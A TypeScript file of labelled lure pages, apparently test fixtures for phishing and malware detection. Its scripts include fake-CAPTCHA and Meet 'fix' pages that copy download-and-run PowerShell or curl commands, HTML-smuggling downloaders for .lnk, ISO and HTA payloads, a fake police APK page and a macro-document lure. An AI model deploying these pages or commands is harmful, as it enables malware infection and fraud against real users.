import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute, fileRoute, zip, pe, apk, lnk, iso, cfb } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-clickfix-jp-cloudflare-verify',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://kobe-ryokan-yoyaku.com/booking/confirm',
  body: doc({
    lang: 'ja',
    title: '人間であることを確認します',
    css: 'body{background:#fff}.m{max-width:560px;margin:80px auto;padding:0 20px}.cb{display:flex;align-items:center;gap:12px;border:1px solid #d9d9d9;background:#fafafa;padding:16px;width:300px;cursor:pointer}.cb span{width:24px;height:24px;border:2px solid #666;border-radius:3px}#steps{display:none;border:1px solid #ddd;padding:16px;margin-top:16px}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}',
    body: `<div class="m"><h1 style="font-weight:500">kobe-ryokan-yoyaku.com</h1><p>続行する前に、接続が安全であることを確認する必要があります。</p>
<div class="cb" id="cb"><span></span> 私はロボットではありません</div>
<div id="steps"><b>確認手順</b><ol><li><kbd>Windows</kbd> + <kbd>R</kbd> キーを押します</li><li><kbd>Ctrl</kbd> + <kbd>V</kbd> キーを押します</li><li><kbd>Enter</kbd> キーを押して確認を完了します</li></ol><p style="font-size:12px;color:#666">Ray ID: 8f21a0c93e7d52b1</p></div></div>
<script>
document.getElementById('cb').onclick=function(){
 var c='powershell -w h -nop -c "$u=\\'https://cdn-verify.kobe-ryokan-yoyaku.com/c.ps1\\';iex (iwr $u -UseBasicParsing).Content" # ✅ I am not a robot - reCAPTCHA ID: 7721';
 navigator.clipboard.writeText(c).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});
 document.getElementById('steps').style.display='block';};
</script>`,
  }),
},
{
  id: 'zr-clickfix-en-meet-mic-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://meet.google.com-join.sg/xkq-ptrm-zne',
  body: doc({
    lang: 'en',
    title: 'Meet - xkq-ptrm-zne',
    css: 'body{background:#202124;color:#e8eaed}.m{max-width:560px;margin:80px auto;text-align:center}.d{background:#fff;color:#202124;border-radius:8px;padding:24px;text-align:left}.b{background:#1a73e8;color:#fff}',
    body: `<div class="m"><div style="height:240px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center">Camera is starting…</div>
<div class="d" id="d" style="display:none"><h3>Problem with your microphone and camera</h3><p>Your browser is blocking access to microphone/camera due to a driver issue. To fix it:</p><ol><li>Click <b>Copy fix</b></li><li>Press <b>Windows + R</b></li><li>Paste (<b>Ctrl + V</b>) and press <b>Enter</b></li></ol><button class="btn b" id="c">Copy fix</button></div></div>
<script>
setTimeout(function(){document.getElementById('d').style.display='block'},2500);
document.getElementById('c').onclick=function(){navigator.clipboard.writeText('cmd /c "curl -s -o %TEMP%\\\\mfix.msi https://meet-driverfix.com-join.sg/d/mfix.msi && msiexec /i %TEMP%\\\\mfix.msi /qn"');this.textContent='Copied ✓'};
</script>`,
  }),
},
{
  id: 'zr-smuggling-jp-invoice-zip-blob',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://filetransfer.seikyu-share.com/d/9f21a7',
  body: doc({
    lang: 'ja',
    title: '請求書のダウンロード',
    css: '.m{max-width:520px;margin:80px auto;text-align:center}',
    body: `<div class="m card"><h2>ファイルを準備しています…</h2><p>請求書_株式会社ヤマダ建設_202511.zip</p><p style="font-size:12px;color:#666">ダウンロードが開始されない場合は<a href="#" id="re">こちら</a>をクリックしてください。<br>ZIPのパスワード：<b>2025</b></p></div>
<script>
var d='${zip([{ name: '請求書_202511.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -c "iwr https://filetransfer.seikyu-share.com/p/s.ps1|iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') }], { encrypted: true }).toString('base64')}';
function go(){var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var bl=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='請求書_株式会社ヤマダ建設_202511.zip';document.body.appendChild(a);a.click();}
setTimeout(go,1200);document.getElementById('re').onclick=function(e){e.preventDefault();go()};
</script>`,
  }),
},
{
  id: 'zr-smuggling-in-gst-notice-iso',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://gst-portal-notice.in/download/notice.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>GST Notice - Download</title></head><body style="font-family:Arial;text-align:center;padding-top:90px">
<h3>Goods and Services Tax Network</h3><p>Your Show Cause Notice (DRC-01) is downloading…</p>
<script>
var chunks=${JSON.stringify(iso('GST_NOTICE', ['DRC01_SCN.pdf.exe', 'autorun.inf']).toString('base64').match(/.{1,2000}/g))};
var raw=atob(chunks.join(''));var arr=new Uint8Array(raw.length);for(var i=0;i<raw.length;i++)arr[i]=raw.charCodeAt(i);
var blob=new Blob([arr],{type:'application/x-iso9660-image'});
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(blob,'DRC01_SCN_27AABCT1332L1ZB.iso')}else{var a=document.createElement('a');document.body.appendChild(a);a.style='display:none';a.href=window.URL.createObjectURL(blob);a.download='DRC01_SCN_27AABCT1332L1ZB.iso';a.click();}
</script></body></html>`,
},
{
  id: 'zr-smuggling-kr-shipping-doc-hta',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://mail-attach.hanjin-doc.com/view?id=BL2025-7781',
  body: doc({
    lang: 'ko',
    title: '선하증권(B/L) 문서 보기',
    body: `<div class="card" style="max-width:500px;margin:80px auto;text-align:center"><h3>선하증권 사본 BL2025-7781</h3><p>보안 문서 다운로드 중입니다. 다운로드된 파일을 열어 확인하세요.</p></div>
<script>
(function(){var s=['PGh0bWw+PGhlYWQ+PEhUQTpBUFBMSUNBVElPTiBXSU5ET1dTVEFURT0ibWluaW1pemUiLz48c2NyaXB0IGxhbmd1YWdlPSJWQlNjcmlwdCI+','${b64('CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c iex(iwr \'https://mail-attach.hanjin-doc.com/s/k.ps1\')", 0 : self.close')}','PC9zY3JpcHQ+PC9oZWFkPjwvaHRtbD4='];
var t=s.map(function(x){return atob(x)}).join('');var b=new Blob([t],{type:'application/hta'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='BL2025-7781_선하증권.hta';a.click();})();
</script>`,
  }),
},
{
  id: 'zr-apk-kr-police-security-app',
  label: 'malware',
  kind: 'fake-apk',
  url: 'https://police-go-kr.safe-app.info/',
  body: doc({
    lang: 'ko',
    title: '경찰청 - 사이버 안심 앱 설치',
    css: '.h{background:#002e6e;color:#fff;padding:14px 0}.m{max-width:520px;margin:24px auto;text-align:center}.d{background:#002e6e;color:#fff;font-size:18px}',
    body: `<div class="h"><div class="wrap"><b>경찰청</b> 사이버수사국</div></div>
<div class="m card"><h2>귀하의 명의가 범죄에 도용되었습니다</h2><p>수사 진행을 위해 보안 인증 앱을 설치하고 담당 수사관의 안내를 따라 주세요. 앱 설치 전까지 통화를 끊지 마십시오.</p>
<a class="btn d" href="/down/police_safe.apk" id="dl">보안 앱 다운로드</a><p style="font-size:12px">사건번호 2025-서울중앙-11872</p></div>
<script>if(!/Android/i.test(navigator.userAgent)){document.getElementById('dl').insertAdjacentHTML('afterend','<p style="color:#c00">안드로이드 휴대폰으로 접속해 주세요.</p>')}</script>`,
  }),
  routes: {
    'police-go-kr.safe-app.info/down/police_safe.apk': fileRoute(apk('kr.go.police.safe', '경찰청 안심', ['android.permission.CALL_PHONE', 'android.permission.PROCESS_OUTGOING_CALLS', 'android.permission.READ_CALL_LOG', 'android.permission.BIND_ACCESSIBILITY_SERVICE']), 'application/vnd.android.package-archive', 'police_safe.apk'),
  },
},
{
  id: 'zr-malware-th-tax-doc-macro',
  label: 'malware',
  kind: 'malware-download',
  url: 'https://rd-go-th.tax-refund-doc.com/form/',
  body: doc({
    lang: 'th',
    title: 'กรมสรรพากร - แบบฟอร์มขอคืนภาษี',
    css: '.h{background:#003b7b;color:#fff;padding:14px 0}.m{max-width:560px;margin:24px auto}.d{background:#003b7b;color:#fff}',
    body: `<div class="h"><div class="wrap"><b>กรมสรรพากร</b> The Revenue Department</div></div>
<div class="m card"><h3>ท่านมีสิทธิ์ได้รับเงินคืนภาษี 12,480 บาท</h3><p>กรุณาดาวน์โหลดแบบฟอร์ม ภ.ง.ด.90 กรอกข้อมูลและ "เปิดใช้งานเนื้อหา" (Enable Content) เพื่อยืนยันตัวตน</p><a class="btn d" href="/form/RD_Refund_2568.doc">ดาวน์โหลดแบบฟอร์ม</a></div>`,
  }),
  routes: {
    'rd-go-th.tax-refund-doc.com/form/RD_Refund_2568.doc': fileRoute(cfb(['AutoOpen', 'Document_Open', 'WScript.Shell', 'powershell -w hidden -enc', 'URLDownloadToFileA', 'VBA_PROJECT'], 16384), 'application/msword', 'RD_Refund_2568.doc'),
  },
},
];
